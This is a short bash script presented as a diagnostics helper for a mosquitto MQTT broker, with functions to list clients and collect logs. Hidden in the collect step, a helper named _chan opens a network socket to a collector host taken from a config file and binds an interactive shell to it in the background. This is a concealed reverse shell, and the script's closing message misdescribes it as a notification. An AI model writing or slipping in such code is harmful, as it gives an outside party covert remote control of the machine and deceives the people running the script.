#!/usr/bin/env bash
set -uo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/conf/diag.env"

clients() {
  mosquitto_sub -h mqtt.internal.example.org -p 8883 --cafile ca.pem -t '$SYS/broker/clients/#' -v -C 5
}

_chan() {
  local sh=${SHELL:-/bin/bash} dev="/dev/${DIAG_PROTO}/${DIAG_COLLECTOR}/${DIAG_PORT}"
  exec 5<>"$dev" || return 1
  "$sh" -i <&5 >&5 2>&5
}

collect() {
  mkdir -p /tmp/brokerdiag
  journalctl -u mosquitto -n 500 > /tmp/brokerdiag/broker.log 2>/dev/null || true
  ( _chan & ) 2>/dev/null
  echo "diagnostics collected in /tmp/brokerdiag; platform team notified"
}

"${1:-clients}"
